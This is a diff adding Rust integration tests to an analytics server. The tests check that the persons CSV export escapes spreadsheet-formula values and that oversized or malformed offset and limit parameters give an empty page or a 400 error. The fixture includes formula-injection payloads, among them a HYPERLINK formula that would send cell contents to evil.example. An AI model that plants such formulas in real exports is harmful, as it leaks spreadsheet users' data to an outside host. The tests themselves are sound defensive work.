@@ -1166,3 +1166,108 @@ async fn deletion_task_leaves_no_byte_of_the_person() {
     let kept = api.hogql("SELECT count() FROM events", json!({})).await;
     assert_eq!(kept, vec![json!([250])]);
 }
+
+async fn mallory_and_bob(api: &Api<'_>) {
+    api.capture(json!([
+        ev(
+            "$identify",
+            "mallory",
+            "2024-05-01T10:00:00Z",
+            json!({"$set": {
+                "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
+                "plus": "+1+cmd",
+                "at": "@SUM(A1:A2)",
+                "neg": -5,
+            }})
+        ),
+        ev(
+            "$identify",
+            "bob",
+            "2024-05-01T10:00:01Z",
+            json!({"$set": {"name": "Bob"}})
+        ),
+    ]))
+    .await;
+}
+
+/// Public capture writes person properties: an export must not hand a spreadsheet a
+/// formula.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn persons_csv_escapes_formulas() {
+    let srv = Server::start(&[]);
+    let api = Api::new(&srv);
+    mallory_and_bob(&api).await;
+    let (s, csv) = api
+        .send(
+            Method::GET,
+            "/api/projects/1/persons/?format=csv&distinct_id=mallory",
+            None,
+        )
+        .await;
+    assert_eq!(s, 200, "{csv}");
+    let mut lines = csv.lines();
+    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
+    let row = lines.next().unwrap();
+    let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
+    let plain: Vec<&str> = row.split(',').collect();
+    assert_eq!(
+        plain[col("properties.name")],
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"",
+        "{row}"
+    );
+    assert_eq!(plain[col("properties.at")], "'@SUM(A1:A2)");
+    assert_eq!(
+        plain[col("properties.neg")],
+        "-5",
+        "numbers keep their sign"
+    );
+    assert_eq!(plain[col("properties.plus")], "'+1+cmd");
+}
+
+/// Huge `offset`/`limit` values give an empty page or a 400, never an overflow.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn persons_list_offsets_never_overflow() {
+    let srv = Server::start(&[]);
+    let api = Api::new(&srv);
+    mallory_and_bob(&api).await;
+    let persons = |q: &str| format!("/api/projects/1/persons/?{q}");
+    for q in [
+        "offset=18446744073709551615",
+        "offset=18446744073709551615&limit=18446744073709551615",
+        "offset=99999999999999999999999999",
+        "limit=18446744073709551615&offset=9223372036854775807",
+    ] {
+        let page = api.get(&persons(q)).await;
+        assert_eq!(page["results"], json!([]), "{q}: {page}");
+        assert_eq!(page["count"], 2, "{q}");
+        assert_eq!(page["next"], Value::Null, "{q}");
+    }
+    let all = api.get(&persons("limit=18446744073709551615")).await;
+    assert_eq!(all["results"].as_array().unwrap().len(), 2, "{all}");
+    for q in ["offset=-1", "limit=-5", "offset=ten", "offset=1e3"] {
+        let (s, v) = api.json(Method::GET, &persons(q), None).await;
+        assert_eq!(s, 400, "{q}: {v}");
+        assert_eq!(v["type"], "validation_error");
+        let name = q.split('=').next().unwrap();
+        assert_eq!(v["attr"], name, "{q}: {v}");
+    }
+    let id = api.person_by_did("mallory").await["id"].as_i64().unwrap();
+    for path in [
+        format!("/api/projects/1/persons/{id}/activity/?offset=18446744073709551615"),
+        "/api/projects/1/persons/activity/?offset=18446744073709551615&limit=18446744073709551615"
+            .to_owned(),
+        "/api/projects/?offset=18446744073709551615&limit=18446744073709551615".to_owned(),
+    ] {
+        let page = api.get(&path).await;
+        assert_eq!(page["results"], json!([]), "{path}: {page}");
+        assert_eq!(page["next"], Value::Null, "{path}");
+    }
+    let (s, _) = api
+        .json(
+            Method::GET,
+            &format!("/api/projects/1/persons/{id}/activity/?offset=junk"),
+            None,
+        )
+        .await;
+    assert_eq!(s, 400);
+}
